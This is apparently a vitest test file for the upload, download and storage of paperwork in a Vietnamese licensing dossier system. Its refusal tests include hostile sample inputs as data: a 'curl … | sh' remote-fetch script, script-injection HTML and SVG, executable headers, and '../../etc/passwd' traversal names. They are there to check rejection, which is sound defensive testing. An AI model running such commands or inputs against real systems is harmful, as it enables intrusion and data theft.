import { createHash } from 'node:crypto';
import fs from 'node:fs';
import { Readable } from 'node:stream';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verifyEventLog } from '../../src/domain/audit/event-log.ts';
import { dossierDeps } from '../../src/api/deps.ts';
import { attachPapers } from '../../src/domain/dossiers/dossier-papers.ts';
import { fileStoreAt } from '../../src/files/file-store.ts';
import { collectOrphanFiles } from '../../src/files/orphan-files.ts';
import { processMaintenanceJob } from '../../workers/maintenance.worker.ts';
import { userActor } from '../../src/auth/actor.ts';
import { APPLICANT, buildDossier, buildProcedure, buildWorld, fireAs, type World } from '../support/factories.ts';
import { attachResult, listStore, PDF, pdfWith, PNG, postPapers, type UploadPart } from '../support/papers.ts';
import { refusedWithoutTrace } from '../support/assertions.ts';
import { startTestApp, type TestApp } from '../support/test-app.ts';
import { fingerprint, TEST_DB } from '../support/test-db.ts';
import type { ProcedureView } from '../../src/domain/procedures/procedures.service.ts';
import type { Principal } from '../../src/auth/principal.ts';

/**
 * Papers of a dossier (issue 7 §1): uploads streamed to the content-addressed store and sniffed, the
 * checklist of the procedure's required papers, downloads only for whoever may see the dossier, the
 * result document before RETURN_RESULT, and every refusal leaving no row and no file.
 */
const LIMIT = 64 * 1024;
let app: TestApp;
let w: World;
let procedure: ProcedureView;
let store: string;

const REQUIRED = [
  { code: 'don-de-nghi', name: 'Đơn đề nghị cấp Giấy phép bán buôn rượu', copies: 1, original: true },
  { code: 'giay-dkdn', name: 'Bản sao Giấy chứng nhận đăng ký doanh nghiệp' },
  { code: 'hop-dong', name: 'Bản sao hợp đồng nguyên tắc với nhà cung cấp', copies: 1 },
];

beforeAll(async () => {
  app = await startTestApp({ env: { IDESK_UPLOAD_MAX_BYTES: String(LIMIT), IDESK_UPLOAD_MAX_FILES: '4' } });
  w = await buildWorld(app);
  procedure = await buildProcedure(app, w.departmentId, { requiredPapers: REQUIRED, hasFee: false, workingDays: 15 });
  store = app.deps.config.filesDir;
});
afterAll(() => app.close());

const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
const staffPapers = (id: number) => `/api/dossiers/${id}/papers`;
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

/**
 * A dossier handed in at the counter without its papers: of a procedure that requires some, guided (Mẫu 02)
 * and not received, it takes them later; of one that requires none, received.
 */
async function counterDossier(p: ProcedureView = procedure) {
  const decision = p.rules.requiredPapers.length > 0 ? 'guide' : 'receive';
  const res = await w.http.post('/api/dossiers', { procedureId: p.id, applicant: APPLICANT, subject: 'Cấp giấy phép bán buôn rượu', decision }, { token: w.onestop.token });
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return { id: res.body.id as number, code: res.body.code as string, version: res.body.version as number };
}

async function onlineDossier(p: ProcedureView = procedure) {
  const res = await w.http.post('/api/public/dossiers', { procedureId: p.id, applicant: APPLICANT, subject: 'Cấp giấy phép' });
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return { id: res.body.id as number, code: res.body.code as string, version: res.body.version as number, secret: res.body.trackingSecret as string };
}


describe('attaching papers at the counter', () => {
  it('stores each file once under its digest, lists it against the checklist, on the detail and on the receipt', async () => {
    const d = await counterDossier();
    const application = pdfWith('don de nghi');
    const res = await postPapers(app.url, staffPapers(d.id), [
      { kind: 'don-de-nghi', name: 'Đơn đề nghị.pdf', bytes: application },
      { kind: 'other', name: 'Sơ đồ kho.png', bytes: PNG, type: 'application/pdf' },
    ], bearer(w.onestop.token));
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.items).toMatchObject([
      { kind: 'don-de-nghi', name: 'Đơn đề nghị.pdf', mediaType: 'application/pdf', size: application.length, sha256: sha(application), attachedBy: { kind: 'user', id: w.onestop.id } },
      // The type claimed by the client (application/pdf) is not believed: the bytes are a PNG.
      { kind: 'other', name: 'Sơ đồ kho.png', mediaType: 'image/png', size: PNG.length },
    ]);
    const digest = sha(application);
    expect(fs.readFileSync(path.join(store, digest.slice(0, 2), digest))).toEqual(application);

    const detail = await w.http.get(`/api/dossiers/${d.id}`, { token: w.lead.token });
    expect(detail.body.papers.map((p: { kind: string }) => p.kind)).toEqual(['don-de-nghi', 'other']);
    expect(detail.body.checklist).toEqual([
      // Each paper says its form: from `original` (true: bản chính) or, when the rules say nothing, a copy.
      { ...REQUIRED[0], copyType: 'original', received: true, paperIds: [res.body.items[0].id] },
      { ...REQUIRED[1], copyType: 'copy', received: false, paperIds: [] },
      { ...REQUIRED[2], copyType: 'copy', received: false, paperIds: [] },
    ]);
    // Not received while papers are missing: no receipt.
    expect((await w.http.get(`/api/dossiers/${d.id}/forms/receipt`, { token: w.onestop.token })).status).toBe(404);
    const rest = await postPapers(app.url, staffPapers(d.id), [
      { kind: 'giay-dkdn', name: 'dkdn.pdf', bytes: pdfWith('dkdn') },
      { kind: 'hop-dong', name: 'hop dong.pdf', bytes: pdfWith('hop dong') },
    ], bearer(w.onestop.token));
    expect(rest.status, JSON.stringify(rest.body)).toBe(201);
    const guided = await w.http.get(`/api/dossiers/${d.id}`, { token: w.onestop.token });
    const supplemented = await w.http.post(`/api/dossiers/${d.id}/events`, { type: 'SUPPLEMENT', version: guided.body.version }, { token: w.onestop.token });
    expect(supplemented.status, JSON.stringify(supplemented.body)).toBe(200);
    const received = await w.http.post(`/api/dossiers/${d.id}/events`, { type: 'RECEIVE', version: supplemented.body.version }, { token: w.onestop.token });
    expect(received.status, JSON.stringify(received.body)).toBe(200);
    const receipt = await w.http.get(`/api/dossiers/${d.id}/forms/receipt`, { token: w.onestop.token });
    expect(receipt.body.fields.papers).toEqual([
      { code: 'don-de-nghi', name: REQUIRED[0]!.name, copies: 1, copyType: 'original', received: true, files: ['Đơn đề nghị.pdf'] },
      { code: 'giay-dkdn', name: REQUIRED[1]!.name, copies: null, copyType: 'copy', received: true, files: ['dkdn.pdf'] },
      { code: 'hop-dong', name: REQUIRED[2]!.name, copies: 1, copyType: 'copy', received: true, files: ['hop dong.pdf'] },
      { code: null, name: 'Sơ đồ kho.png', copies: null, copyType: 'copy', received: true, files: ['Sơ đồ kho.png'] },
    ]);
    // One audit event per paper, in the dossier's papers chain; the chain verifies.
    const events = await app.deps.db('events').where({ stream_type: 'dossier_papers', stream_id: String(d.id) }).orderBy('seq');
    expect(events.map((e) => [e.seq, e.type, e.actor_id])).toEqual([
      [1, 'PAPER_ATTACHED', w.onestop.id],
      [2, 'PAPER_ATTACHED', w.onestop.id],
      [3, 'PAPER_ATTACHED', w.onestop.id],
      [4, 'PAPER_ATTACHED', w.onestop.id],
    ]);
    expect((await verifyEventLog(app.deps.db)).ok).toBe(true);
  });

  it('stores a file uploaded twice once: two papers, one file', async () => {
    const d = await counterDossier();
    const scan = pdfWith('dang ky doanh nghiep — twice');
    const first = await postPapers(app.url, staffPapers(d.id), [{ kind: 'giay-dkdn', name: 'dkdn.pdf', bytes: scan }], bearer(w.onestop.token));
    const filesAfterFirst = listStore(store);
    const second = await postPapers(app.url, staffPapers(d.id), [{ kind: 'giay-dkdn', name: 'dkdn (2).pdf', bytes: scan }], bearer(w.onestop.token));
    expect([first.status, second.status]).toEqual([201, 201]);
    expect(listStore(store)).toEqual(filesAfterFirst);
    expect(listStore(store).filter((f) => f.endsWith(sha(scan)))).toHaveLength(1);
    expect(await app.deps.db('dossier_papers').where({ sha256: sha(scan) }).count({ n: '*' }).first()).toMatchObject({ n: 2 });
    expect(await app.deps.db('stored_files').where({ sha256: sha(scan) }).count({ n: '*' }).first()).toMatchObject({ n: 1 });
  });

  it('keeps a Vietnamese filename in NFC, without control characters, and gives it back in Content-Disposition', async () => {
    const d = await counterDossier();
    const decomposed = 'Giấy chứng nhận đăng ký doanh nghiệp\u202e.pdf'.normalize('NFD');
    const res = await postPapers(app.url, staffPapers(d.id), [{ kind: 'giay-dkdn', name: decomposed, bytes: pdfWith('vn name') }], bearer(w.onestop.token));
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const name = 'Giấy chứng nhận đăng ký doanh nghiệp.pdf';
    expect(res.body.items[0].name).toBe(name);
    const download = await fetch(`${app.url}${staffPapers(d.id)}/${res.body.items[0].id}/content`, { headers: bearer(w.lead.token) });
    expect(download.status).toBe(200);
    expect(Buffer.from(await download.arrayBuffer())).toEqual(pdfWith('vn name'));
    expect(download.headers.get('content-type')).toBe('application/pdf');
    expect(download.headers.get('x-content-type-options')).toBe('nosniff');
    const disposition = download.headers.get('content-disposition') as string;
    expect(disposition).toMatch(/^attachment; filename="Giay chung nhan dang ky doanh nghiep\.pdf"; filename\*=UTF-8''/);
    expect(decodeURIComponent(/filename\*=UTF-8''(.+)$/.exec(disposition)![1]!)).toBe(name);
  });
});

describe('refused uploads leave no row and no file', () => {
  const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120)]);
  const MZ = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]);
  const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
  const HTML = Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>');
  const SVG = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>');
  let d: { id: number };
  beforeAll(async () => {
    d = await counterDossier();
  });
  const upload = (parts: UploadPart[], token = w.onestop.token) => postPapers(app.url, staffPapers(d.id), parts, bearer(token));

  it.each([
    ['an ELF executable', ELF, 'application/x-elf'],
    ['an MZ (Windows) executable', MZ, 'application/x-msdownload'],
    ['a shell script', SCRIPT, 'text/x-shellscript'],
    ['an HTML page', HTML, 'text/html'],
    ['an SVG image', SVG, 'image/svg+xml'],
    ['a plain ZIP archive', Buffer.from('504b0304140000000000000000000000000000000000000000000000000000000100000061', 'hex'), 'application/zip'],
  ])('%s renamed .pdf: 422 UNSUPPORTED_FILE_TYPE naming what it is', async (_label, bytes, detected) => {
    const res = await refusedWithoutTrace(app, () => upload([{ kind: 'giay-dkdn', name: 'giay-phep.pdf', bytes }]), 422, 'UNSUPPORTED_FILE_TYPE');
    expect(res.body.error.details).toMatchObject({ file: 'giay-phep.pdf', detected });
  });

  it('a good file sent with a bad one: neither is kept', async () => {
    await refusedWithoutTrace(app, () => upload([{ kind: 'giay-dkdn', name: 'ok.pdf', bytes: pdfWith('kept?') }, { kind: 'other', name: 'run.pdf', bytes: ELF }]), 422, 'UNSUPPORTED_FILE_TYPE');
  });

  it('a path-traversal filename: 400 INVALID_FILE_NAME, and no file anywhere but where it was', async () => {
    await refusedWithoutTrace(app, () => upload([{ kind: 'giay-dkdn', name: '../../etc/passwd.pdf', bytes: pdfWith('traversal') }]), 400, 'INVALID_FILE_NAME');
    await refusedWithoutTrace(app, () => upload([{ kind: 'giay-dkdn', name: '..\\..\\windows\\win.ini.pdf', bytes: pdfWith('traversal') }]), 400, 'INVALID_FILE_NAME');
    expect(fs.existsSync(path.join(store, '..', 'etc'))).toBe(false);
  });

  it('a file over IDESK_UPLOAD_MAX_BYTES: 413 PAYLOAD_TOO_LARGE', async () => {
    const big = Buffer.concat([PDF, Buffer.alloc(LIMIT, 0x20)]);
    const res = await refusedWithoutTrace(app, () => upload([{ kind: 'giay-dkdn', name: 'lon.pdf', bytes: big }]), 413, 'PAYLOAD_TOO_LARGE');
    expect(res.body.error.details).toMatchObject({ limit: LIMIT });
  });

  it('more files than IDESK_UPLOAD_MAX_FILES: 413 TOO_MANY_FILES', async () => {
    const parts = Array.from({ length: 5 }, (_v, i) => ({ kind: 'other', name: `p${i}.pdf`, bytes: pdfWith(`many ${i}`) }));
    await refusedWithoutTrace(app, () => upload(parts), 413, 'TOO_MANY_FILES');
  });

  it('an unknown kind, kinds that do not match the files, no file, or a body that is not multipart', async () => {
    await refusedWithoutTrace(app, () => upload([{ kind: 'giay-phep-xay-dung', name: 'a.pdf', bytes: pdfWith('unknown kind') }]), 400, 'UNKNOWN_PAPER_KIND');
    await refusedWithoutTrace(app, async () => {
      const form = new FormData();
      form.append('file', new Blob([new Uint8Array(pdfWith('no kind'))]), 'a.pdf');
      const res = await fetch(`${app.url}${staffPapers(d.id)}`, { method: 'POST', headers: bearer(w.onestop.token), body: form });
      return { status: res.status, body: await res.json() };
    }, 400, 'VALIDATION_FAILED');
    await refusedWithoutTrace(app, () => upload([]), 400, 'NO_FILES');
    await refusedWithoutTrace(app, () => w.http.post(staffPapers(d.id), { kind: 'other' }, { token: w.onestop.token }), 415, 'UNSUPPORTED_MEDIA_TYPE');
    await refusedWithoutTrace(app, 
      () => w.http.post(staffPapers(d.id), undefined, { token: w.onestop.token, headers: { 'content-type': 'multipart/form-data; boundary=x' }, raw: '--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-trunc' }),
      400,
      'MALFORMED_MULTIPART',
    );
  });

  it('someone who may not attach papers: anonymous 401, a specialist 403, another department’s lead 404, the result before a decision 422', async () => {
    const parts = [{ kind: 'giay-dkdn', name: 'a.pdf', bytes: pdfWith('unauthorised') }];
    await refusedWithoutTrace(app, () => postPapers(app.url, staffPapers(d.id), parts), 401, 'UNAUTHENTICATED');
    await refusedWithoutTrace(app, () => upload(parts, w.lead.token), 403, 'FORBIDDEN');
    await refusedWithoutTrace(app, () => upload(parts, w.otherLead.token), 404, 'NOT_FOUND');
    await refusedWithoutTrace(app, () => upload([{ kind: 'result', name: 'giay-phep.pdf', bytes: pdfWith('early result') }]), 422, 'PAPERS_NOT_ACCEPTED');
  });

  it('a dossier whose state takes no papers: 422 PAPERS_NOT_ACCEPTED', async () => {
    const refused = await buildDossier(w, { state: 'refused' });
    await refusedWithoutTrace(app, () => postPapers(app.url, staffPapers(refused.id), [{ kind: 'other', name: 'a.pdf', bytes: pdfWith('closed') }], bearer(w.onestop.token)), 422, 'PAPERS_NOT_ACCEPTED');
  });
});

describe('downloads only for whoever may see the dossier', () => {
  let d: { id: number; code: string; secret: string };
  let other: { code: string; secret: string };
  let paperId: number;
  beforeAll(async () => {
    d = await onlineDossier();
    other = await onlineDossier();
    const res = await postPapers(app.url, `/api/public/dossiers/${d.code}/papers`, [{ kind: 'don-de-nghi', name: 'Đơn.pdf', bytes: pdfWith('applicant own') }], { 'x-tracking-secret': d.secret });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.items[0].attachedBy).toEqual({ kind: 'applicant', id: null, name: null });
    paperId = res.body.items[0].id;
  });

  it('the applicant lists and downloads their own paper with the secret', async () => {
    const list = await w.http.get(`/api/public/dossiers/${d.code}/papers`, { headers: { 'x-tracking-secret': d.secret } });
    expect(list.status).toBe(200);
    expect(list.body.items.map((p: { id: number }) => p.id)).toEqual([paperId]);
    expect(list.body.checklist.map((c: { received: boolean }) => c.received)).toEqual([true, false, false]);
    const res = await fetch(`${app.url}/api/public/dossiers/${d.code}/papers/${paperId}/content?secret=${encodeURIComponent(d.secret)}`);
    expect(res.status).toBe(200);
    expect(Buffer.from(await res.arrayBuffer())).toEqual(pdfWith('applicant own'));
  });

  it('another applicant’s secret, anonymous, a staff member of another department, another dossier’s paper id: refused, nothing changed', async () => {
    const content = `/api/public/dossiers/${d.code}/papers/${paperId}/content`;
    await refusedWithoutTrace(app, () => w.http.get(content, { headers: { 'x-tracking-secret': other.secret } }), 404, 'NOT_FOUND');
    await refusedWithoutTrace(app, () => w.http.get(content), 404, 'NOT_FOUND');
    await refusedWithoutTrace(app, () => w.http.get(`/api/public/dossiers/${other.code}/papers/${paperId}/content`, { headers: { 'x-tracking-secret': other.secret } }), 404, 'PAPER_NOT_FOUND');
    await refusedWithoutTrace(app, () => w.http.get(`/api/dossiers/${d.id}/papers/${paperId}/content`), 401, 'UNAUTHENTICATED');
    await refusedWithoutTrace(app, () => w.http.get(`/api/dossiers/${d.id}/papers/${paperId}/content`, { token: w.otherSpecialist.token }), 404, 'NOT_FOUND');
    await refusedWithoutTrace(app, () => w.http.get(`/api/dossiers/${d.id}/papers`, { token: w.otherLead.token }), 404, 'NOT_FOUND');
    await refusedWithoutTrace(app, () => w.http.get(`/api/dossiers/${d.id}/papers/${paperId}/content`, { token: w.staff.token }), 403, 'FORBIDDEN');
    // The department's own staff see it.
    expect((await fetch(`${app.url}/api/dossiers/${d.id}/papers/${paperId}/content`, { headers: bearer(w.specialist.token) })).status).toBe(200);
  });

  it('the applicant may not upload to another dossier, nor the result, nor once the dossier is received', async () => {
    const url = `/api/public/dossiers/${d.code}/papers`;
    await refusedWithoutTrace(app, () => postPapers(app.url, url, [{ kind: 'other', name: 'a.pdf', bytes: pdfWith('wrong secret') }], { 'x-tracking-secret': other.secret }), 404, 'NOT_FOUND');
    await refusedWithoutTrace(app, () => postPapers(app.url, url, [{ kind: 'result', name: 'a.pdf', bytes: pdfWith('own result') }], { 'x-tracking-secret': d.secret }), 403, 'FORBIDDEN');
    const received = await onlineDossier(w.procedures.noFee);
    await fireAs(w.http, received, w.onestop, 'RECEIVE');
    await refusedWithoutTrace(app, 
      () => postPapers(app.url, `/api/public/dossiers/${received.code}/papers`, [{ kind: 'other', name: 'late.pdf', bytes: pdfWith('after receipt') }], { 'x-tracking-secret': received.secret }),
      422,
      'PAPERS_NOT_ACCEPTED',
    );
  });

  it('the applicant uploads a supplement while asked for one, then sends SUPPLEMENT', async () => {
    const s = await buildDossier(w, { state: 'awaitingSupplement' });
    const up = await postPapers(app.url, `/api/public/dossiers/${s.code}/papers`, [{ kind: 'other', name: 'Bổ sung.pdf', bytes: pdfWith('supplement') }], { 'x-tracking-secret': s.secret as string });
    expect(up.status, JSON.stringify(up.body)).toBe(201);
    const sent = await w.http.post(`/api/public/dossiers/${s.code}/events`, { type: 'SUPPLEMENT', version: s.version }, { headers: { 'x-tracking-secret': s.secret as string } });
    expect(sent.status).toBe(200);
  });
});

describe('the result document (giấy phép)', () => {
  it('RETURN_RESULT after an approval needs it: 422 RESULT_DOCUMENT_MISSING changes nothing; attached, the result goes back and the applicant downloads it', async () => {
    const online = await onlineDossier(w.procedures.noFee);
    const d = { id: online.id, version: online.version };
    await fireAs(w.http, d, w.onestop, 'RECEIVE');
    await fireAs(w.http, d, w.lead, 'ASSIGN', { assigneeId: w.specialist.id });
    await fireAs(w.http, d, w.specialist, 'VERIFY');
    await fireAs(w.http, d, w.lead, 'PROPOSE', { opinion: 'Đủ điều kiện', proposedResult: 'grant' });
    await fireAs(w.http, d, w.director, 'APPROVE');
    const missing = await refusedWithoutTrace(app, () => w.http.post(`/api/dossiers/${d.id}/events`, { type: 'RETURN_RESULT', version: d.version }, { token: w.onestop.token }), 422, 'RESULT_DOCUMENT_MISSING');
    expect(missing.body.error.details).toMatchObject({ kind: 'result' });
    // Only the one-stop unit attaches it.
    await refusedWithoutTrace(app, () => postPapers(app.url, staffPapers(d.id), [{ kind: 'result', name: 'gp.pdf', bytes: pdfWith('by director') }], bearer(w.director.token)), 403, 'FORBIDDEN');
    const licence = pdfWith('giấy phép số 12/GP-SCT');
    const attached = await attachResult(app.url, d.id, w.onestop.token, licence);
    const resultId = attached.body.items[0].id;

    // Before it is handed back the applicant does not see it (a fee may still be due elsewhere).
    const before = await w.http.get(`/api/public/dossiers/${online.code}/papers`, { headers: { 'x-tracking-secret': online.secret } });
    expect(before.body.items.map((p: { kind: string }) => p.kind)).not.toContain('result');
    await refusedWithoutTrace(app, () => w.http.get(`/api/public/dossiers/${online.code}/papers/${resultId}/content`, { headers: { 'x-tracking-secret': online.secret } }), 404, 'PAPER_NOT_FOUND');

    await fireAs(w.http, d, w.onestop, 'RETURN_RESULT', { method: 'electronic' });
    const after = await w.http.get(`/api/public/dossiers/${online.code}/papers`, { headers: { 'x-tracking-secret': online.secret } });
    expect(after.body.items.map((p: { kind: string }) => p.kind)).toContain('result');
    const res = await fetch(`${app.url}/api/public/dossiers/${online.code}/papers/${resultId}/content`, { headers: { 'x-tracking-secret': online.secret } });
    expect(res.status).toBe(200);
    expect(Buffer.from(await res.arrayBuffer())).toEqual(licence);
    // A completed dossier takes no more papers.
    await refusedWithoutTrace(app, () => postPapers(app.url, staffPapers(d.id), [{ kind: 'result', name: 'again.pdf', bytes: pdfWith('again') }], bearer(w.onestop.token)), 422, 'PAPERS_NOT_ACCEPTED');
  });

  it('a refusal outcome is returned without a document', async () => {
    const d = await counterDossier(w.procedures.noFee);
    await fireAs(w.http, d, w.lead, 'ASSIGN', { assigneeId: w.specialist.id });
    await fireAs(w.http, d, w.specialist, 'VERIFY');
    await fireAs(w.http, d, w.lead, 'PROPOSE', { opinion: 'Không đủ điều kiện', proposedResult: 'refuse' });
    await fireAs(w.http, d, w.director, 'APPROVE');
    const done = await fireAs(w.http, d, w.onestop, 'RETURN_RESULT', { method: 'counter' });
    expect(done).toMatchObject({ state: 'completed', result: 'refuse' });
  });
});

describe('orphans and races', () => {
  it('collects a file no row references once it is an hour old, and never one a paper references', async () => {
    const files = fileStoreAt(store);
    const orphanBytes = pdfWith('rolled back');
    const temp = await files.writeTemp(Readable.from([orphanBytes]), LIMIT);
    await files.promote(temp);
    const referenced = await counterDossier();
    const kept = pdfWith('referenced, old');
    await postPapers(app.url, staffPapers(referenced.id), [{ kind: 'other', name: 'kept.pdf', bytes: kept }], bearer(w.onestop.token));
    const young = await files.writeTemp(Readable.from([pdfWith('young orphan')]), LIMIT);
    await files.promote(young);
    const stale = await files.writeTemp(Readable.from([pdfWith('interrupted upload')]), LIMIT);
    const twoHoursAgo = new Date(Date.now() - 2 * 3_600_000);
    for (const p of [files.pathOf(sha(orphanBytes)), files.pathOf(sha(kept)), stale.path]) fs.utimesSync(p, twoHoursAgo, twoHoursAgo);

    // The maintenance worker's hourly job, as BullMQ runs it.
    const result = await processMaintenanceJob({ name: 'files-gc', data: {} } as never, { ...app.deps, clock: () => new Date() } as never);
    expect(result).toEqual({ removed: 1, temporary: 1 });
    expect(fs.existsSync(files.pathOf(sha(orphanBytes)))).toBe(false);
    expect(fs.existsSync(files.pathOf(sha(kept)))).toBe(true);
    expect(fs.existsSync(files.pathOf(young.sha256))).toBe(true);
    expect(fs.existsSync(stale.path)).toBe(false);
  });

  it('a transaction that fails after the file is stored leaves an orphan the collector takes, and no row', async () => {
    const d = await counterDossier();
    const files = fileStoreAt(store);
    const bytes = pdfWith('stopped meanwhile');
    const temp = await files.writeTemp(Readable.from([bytes]), LIMIT);
    const deps = dossierDeps(app.deps);
    const principal: Principal = { userId: w.onestop.id, username: w.onestop.username, fullName: 'Một cửa', departmentId: null, roles: ['onestop', 'staff'], mustChangePassword: false, via: 'session', expiresAt: null };
    // The dossier is stopped between the check and the transaction: the domain re-checks under the lock.
    const db = deps.db;
    let stopped = false;
    const racing = {
      ...deps,
      files: {
        ...files,
        promote: async (t: typeof temp) => {
          const created = await files.promote(t);
          if (!stopped) {
            stopped = true;
            await fireAs(w.http, d, w.onestop, 'STOP', { reason: 'Theo đề nghị của cơ quan có thẩm quyền' });
          }
          return created;
        },
        discard: (t: typeof temp) => files.discard(t),
        open: (s: string) => files.open(s),
      },
    };
    await expect(attachPapers(racing, { kind: 'staff', actor: userActor(principal), dossierId: d.id }, [{ kind: 'other', name: 'x.pdf', mediaType: 'application/pdf', temp }])).rejects.toMatchObject({ code: 'PAPERS_NOT_ACCEPTED' });
    expect(await db('dossier_papers').where({ dossier_id: d.id }).first()).toBeUndefined();
    expect(fs.existsSync(files.pathOf(sha(bytes)))).toBe(true);
    const later = new Date(Date.now() + 2 * 3_600_000);
    expect((await collectOrphanFiles(db, files, later)).removed).toContain(sha(bytes));
    expect(fs.existsSync(files.pathOf(sha(bytes)))).toBe(false);
  });

  it(`two uploads to one dossier at the same moment both land, and the papers' chain stays whole (${TEST_DB})`, async () => {
    const d = await counterDossier();
    const answers = await Promise.all(
      Array.from({ length: 4 }, (_v, i) => postPapers(app.url, staffPapers(d.id), [{ kind: 'other', name: `song-song-${i}.pdf`, bytes: pdfWith(`parallel ${i}`) }], bearer(w.onestop.token))),
    );
    expect(answers.map((a) => a.status)).toEqual([201, 201, 201, 201]);
    const seqs = (await app.deps.db('events').where({ stream_type: 'dossier_papers', stream_id: String(d.id) }).orderBy('seq').pluck('seq')) as number[];
    expect(seqs).toEqual([1, 2, 3, 4]);
    expect((await verifyEventLog(app.deps.db)).ok).toBe(true);
  });
});

describe('required papers on procedures', () => {
  it('are published with the rules, and a code used twice or reserved is refused', async () => {
    const created = await w.http.post(
      '/api/procedures',
      { code: '1.0-papers', name: 'Thủ tục thử', departmentId: w.departmentId, workingDays: 5, requiredPapers: [{ code: 'to-khai', name: 'Tờ khai', copies: 2, original: true }] },
      { token: w.admin.token },
    );
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    expect(created.body.rules.requiredPapers).toEqual([{ code: 'to-khai', name: 'Tờ khai', copies: 2, original: true, copyType: 'original' }]);
    const publicList = await w.http.get('/api/public/procedures');
    expect(publicList.body.items.find((p: { code: string }) => p.code === '1.0-papers').requiredPapers).toEqual([{ code: 'to-khai', name: 'Tờ khai', copies: 2, original: true, copyType: 'original' }]);
    for (const papers of [[{ code: 'a', name: 'A' }, { code: 'a', name: 'B' }], [{ code: 'result', name: 'Kết quả' }]]) {
      const before = await fingerprint(app.deps.db);
      const res = await w.http.post('/api/procedures', { code: '1.0-bad', name: 'Sai', departmentId: w.departmentId, workingDays: 5, requiredPapers: papers }, { token: w.admin.token });
      expect(res.status).toBe(400);
      expect(res.body.error.code).toBe('INVALID_REQUIRED_PAPERS');
      expect(await fingerprint(app.deps.db)).toEqual(before);
    }
  });
});
